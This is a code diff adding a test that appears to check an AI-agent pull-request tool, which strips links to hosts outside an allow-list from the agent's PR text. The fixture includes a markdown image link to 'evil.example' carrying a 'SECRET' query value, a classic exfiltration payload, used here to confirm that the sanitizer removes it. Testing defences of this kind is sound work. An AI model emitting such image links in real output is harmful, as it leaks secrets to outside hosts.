@@ -95,6 +95,18 @@ describe("pull requests", () => {
     expect((await deps.store.read()).ledger.tasks[0]!.github?.pr).toBe(pulls()[0]!.number);
   });
 
+  it("links in the agent's text keep to the allow-list: GitHub's hosts and github.allowedLinkHosts stay, any other is removed", async () => {
+    const deps = await githubDeps(fake, { github: { allowedLinkHosts: ["docs.example.com"] } });
+    await reconcile(labelledIssue(fake, "d-1"), deps);
+    await runAttempt(deps, cloneWorker(deps, clone, [writes("fix.txt", "See https://docs.example.com/csv and https://github.com/acme/widgets/issues/1; ![x](https://evil.example/p.png?q=SECRET)")]), 1);
+    const body = pulls()[0]!.body ?? "";
+    expect(body).toContain("https://docs.example.com/csv");
+    expect(body).toContain("https://github.com/acme/widgets/issues/1");
+    expect(body).not.toContain("evil.example");
+    expect(body).not.toContain("SECRET");
+    expect(body).toContain("link removed: evil[.]example");
+  });
+
   it("a retry's attempt starts from the pushed branch, and its result updates the same pull request", async () => {
     const deps = await githubDeps(fake);
     const maintainer = fake.state.user("maintainer");
